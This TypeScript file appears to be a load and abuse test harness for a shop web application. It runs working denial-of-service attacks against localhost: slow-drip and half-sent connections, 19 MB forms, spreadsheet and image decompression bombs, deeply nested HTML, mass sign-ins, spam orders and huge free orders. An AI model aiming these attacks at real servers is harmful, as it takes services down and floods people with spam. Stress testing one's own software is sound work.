import { randomUUID } from 'node:crypto'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { hostilePictures } from '../../trust/support/hostile-pictures.ts'
import { call, type Reply } from './call.ts'
import { farCells, heavyBook } from './hostile-books.ts'

/** Who attacks, and where; all of it fits through a pipe. */
export interface Aim {
  port: number
  /** The sub-domain of the attacker's own shop, whose owner or staff he may be. */
  shop: string
  email: string
  password: string
  owner: { token: string; cookie: string }
  staff: { token: string; cookie: string }
  /** Products of his that cost something and nothing. */
  sold: number
  free: number
}

/** What came back, by status; what broke, by its reason. */
export type Tally = Record<string, number>

/** Goes on until its process is ended. */
type Attack = (aim: Aim, tally: Tally) => Promise<unknown>

const MIB = 1024 * 1024
const BOUNDARY = 'phsar-attack'
const FORM = `multipart/form-data; boundary=${BOUNDARY}`
/** All attackers sit at one address. */
const FROM = { 'x-forwarded-for': '203.0.113.66' }

const count = (tally: Tally, what: string) => {
  tally[what] = (tally[what] ?? 0) + 1
}

const field = (name: string, value: string) =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`

/** A form with one file and some fields. */
const fileForm = (name: string, bytes: Buffer, fields: Record<string, string> = {}) =>
  Buffer.concat([
    Buffer.from(
      Object.entries(fields)
        .map(([key, value]) => field(key, value))
        .join(''),
    ),
    Buffer.from(
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
    ),
    bytes,
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ])

/** The same again and again, so many at a time; what is refused at once is asked again a moment later. */
async function again(width: number, once: (turn: number) => Promise<Reply>, tally: Tally, pause = 5): Promise<void> {
  let turn = 0
  const one = async () => {
    for (;;) {
      turn += 1
      await once(turn).then(
        ({ status }) => count(tally, String(status)),
        (error: Error) => count(tally, error.message.slice(0, 40)),
      )
      await sleep(pause)
    }
  }
  await Promise.all(Array.from({ length: width }, one))
}

const host = (aim: Aim, shop = false) => `${shop ? `${aim.shop}.` : ''}localhost:${aim.port}`

/** Sends a form of the attacker's own. */
const sendForm = (aim: Aim, path: string, body: Buffer, token = aim.owner.token) =>
  call(aim.port, host(aim), path, { bytes: body, token, headers: { ...FROM, 'content-type': FORM }, most: 120_000 })

interface Held {
  path: string
  headers: Record<string, string>
  /** What is sent of the body at once. */
  sent: Buffer
  /** How long the body is said to be. */
  length: number
  /** Milliseconds between bytes that follow; none follow otherwise. */
  drip?: number
  /** Milliseconds after which the line is hung up, and another taken. */
  hold?: number
}

/** Holds so many connections open, each in the middle of a body; one that is closed is opened anew. */
async function holding(aim: Aim, connections: number, tally: Tally, held: (n: number) => Held): Promise<void> {
  const one = async (n: number) => {
    for (;;) {
      const { path, headers, sent, length, drip, hold } = held(n)
      await new Promise<void>((done) => {
        const all = { host: host(aim), ...FROM, ...headers, 'content-length': String(length) }
        const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`)
        const socket = connect(aim.port, '127.0.0.1')
        const timers: NodeJS.Timeout[] = []
        if (hold) timers.push(setTimeout(() => socket.destroy(), hold))
        socket.on('connect', () => {
          socket.write(`POST ${path} HTTP/1.1\r\n${lines.join('')}\r\n`)
          socket.write(sent)
          if (drip) timers.push(setInterval(() => socket.write('a'), drip))
        })
        socket.once('data', (said) => {
          count(tally, said.toString('latin1').slice(9, 12))
          socket.destroy()
        })
        socket.on('error', (error: NodeJS.ErrnoException) => count(tally, error.code ?? 'broken'))
        socket.on('close', () => {
          for (const timer of timers) clearTimeout(timer)
          done()
        })
      })
      await sleep(50)
    }
  }
  await Promise.all(Array.from({ length: connections }, (_, n) => one(n)))
}

/** 19 MB of text in a form that lacks its end. */
const texts = () => Buffer.from(field('email', 'a'.repeat(MIB - 1)).repeat(19))
/** JSON just below what a call may send, that lacks its end. */
const json = () => Buffer.from(`{"email":"${'a'.repeat(MIB - 4096)}`)

const multipart = (path: string, headers: Record<string, string> = {}): Attack => {
  const sent = texts()
  const held = { path, headers: { ...headers, 'content-type': FORM }, sent, length: sent.length + 64 }
  return (aim, tally) => holding(aim, 230, tally, () => held)
}

const halfSent = (path: string, by: (aim: Aim) => Record<string, string>): Attack => {
  const whole = fileForm('a.png', Buffer.alloc(4 * MIB, 1))
  const sent = whole.subarray(0, whole.length - 4096)
  return (aim, tally) =>
    holding(aim, 12, tally, () => ({
      path,
      headers: { ...by(aim), 'content-type': FORM },
      sent,
      length: whole.length,
      hold: 15_000,
    }))
}

const HEAD = 'Handle,Title,Body (HTML),Variant SKU,Variant Price,Variant Inventory Qty,Variant Inventory Tracker'

/** A catalogue of so many products, none of which was there before. */
function catalogue(rows: number): Buffer {
  const mark = randomUUID().slice(0, 8)
  const lines = Array.from({ length: rows }, (_, n) => `${mark}-${n},Thing ${mark} ${n},,${mark}-${n},1.50,5,shopify`)
  return Buffer.from([HEAD, ...lines].join('\n'))
}

const bearer = (aim: Aim) => ({ authorization: `Bearer ${aim.owner.token}` })
const cookie = (aim: Aim) => ({ cookie: aim.owner.cookie, 'sec-fetch-site': 'same-origin' })
const nobody = () => ({})

const order = (aim: Aim, product_id: number, quantity: number, email?: string) =>
  call(aim.port, host(aim, true), '/api/shop/orders', {
    body: {
      lines: [{ product_id, quantity }],
      type: 'pickup',
      firstname: 'Win a prize at evil.example',
      telephone: '012345678',
      payment_method: 'cod',
      shipping_method: 'pickup',
      ...(email && { email }),
    },
    headers: { ...FROM, 'idempotency-key': randomUUID() },
  })

const KINDS = ['products', 'categories', 'customers']

/** Each attack by what it does. */
export const ATTACKS: Record<string, Attack> = {
  'workbooks with a cell far away': async (aim, tally) => {
    const books = await farCells()
    await again(
      2,
      (turn) => {
        const path = `/api/backend/${KINDS[turn % 3]}/import${turn % 2 ? '/preview' : ''}`
        return sendForm(aim, path, fileForm('a.xlsx', books[turn % books.length] as Buffer, { dry_run: 'true' }))
      },
      tally,
    )
  },
  'workbooks that unpack to much, by staff': async (aim, tally) => {
    const body = fileForm('a.xlsx', await heavyBook(), { dry_run: 'true' })
    await again(2, () => sendForm(aim, '/api/backend/products/import', body, aim.staff.token), tally)
  },
  '230 forms of 19 MB to the login page': multipart('/login'),
  '230 forms of 19 MB to REST': multipart('/api/backend/auth/login'),
  '230 forms of 19 MB by an owner': (aim, tally) => multipart('/products', cookie(aim))(aim, tally),
  '230 forms of 19 MB by an owner to REST': (aim, tally) =>
    multipart('/api/backend/products/import', bearer(aim))(aim, tally),
  '230 bodies of JSON': (aim, tally) => {
    const held = { headers: { 'content-type': 'application/json' }, sent: json(), length: MIB }
    return holding(aim, 230, tally, (n) => ({ ...held, path: n % 2 ? '/api/backend/auth/login' : '/login' }))
  },
  '230 slow drips': (aim, tally) => {
    const sent = Buffer.from(field('email', 'a').slice(0, -2))
    return holding(aim, 230, tally, (n) => ({
      path: n % 2 ? '/api/backend/auth/login' : '/login',
      headers: { 'content-type': FORM },
      sent,
      length: MIB / 2,
      drip: 250,
    }))
  },
  'dry runs of 4 MiB, two at once': async (aim, tally) => {
    const body = fileForm('a.csv', catalogue(66_000).subarray(0, 4 * MIB), { dry_run: 'true' })
    await again(2, () => sendForm(aim, '/api/backend/products/import', body), tally)
  },
  'dry runs of which nobody waits for the end': async (aim, tally) => {
    const body = fileForm('a.csv', catalogue(66_000).subarray(0, 4 * MIB), { dry_run: 'true' })
    const held = { path: '/api/backend/products/import', sent: body, length: body.length, hold: 400 }
    await holding(aim, 4, tally, () => ({ ...held, headers: { ...bearer(aim), 'content-type': FORM } }))
  },
  'half-sent forms by nobody': halfSent('/login', nobody),
  'half-sent pictures to REST by nobody': halfSent('/api/backend/upload', nobody),
  'half-sent forms by an owner': halfSent('/products', cookie),
  'half-sent pictures to REST by an owner': halfSent('/api/backend/upload', bearer),
  '40 letters a second to anybody': (aim, tally) =>
    again(10, () => order(aim, aim.sold, 1, `${randomUUID()}@victim.example`), tally, 250),
  'an import of 220,000 rows': async (aim, tally) => {
    const body = fileForm('a.csv', catalogue(220_000))
    await again(1, () => sendForm(aim, '/api/backend/products/import', body), tally, 2_000)
  },
  'free orders of as much as may be': (aim, tally) => again(8, () => order(aim, aim.free, 9_999), tally),
  '1,000 sign-ins at once': async (aim, tally) => {
    const body = { email: aim.email, password: aim.password }
    const once = () => call(aim.port, host(aim), '/api/backend/auth/login', { body, headers: FROM, most: 120_000 })
    await again(1_000, once, tally, 1_000)
  },
  'rich text of deep tables, by staff': (aim, tally) => {
    const description = `${'<table><tbody><tr><td>'.repeat(2_800)}a`.slice(0, 64_000)
    const path = `/api/backend/products/${aim.sold}`
    const token = aim.staff.token
    return again(
      4,
      () => call(aim.port, host(aim), path, { method: 'PUT', body: { description }, token, headers: FROM }),
      tally,
    )
  },
  'pictures that are bombs': async (aim, tally) => {
    const bodies = (await hostilePictures()).map(({ bytes, name = 'a.png' }) =>
      fileForm(name.replace(/[^\w.]/g, '').slice(-40), bytes),
    )
    await again(4, (turn) => sendForm(aim, '/api/backend/upload', bodies[turn % bodies.length] as Buffer), tally)
  },
}
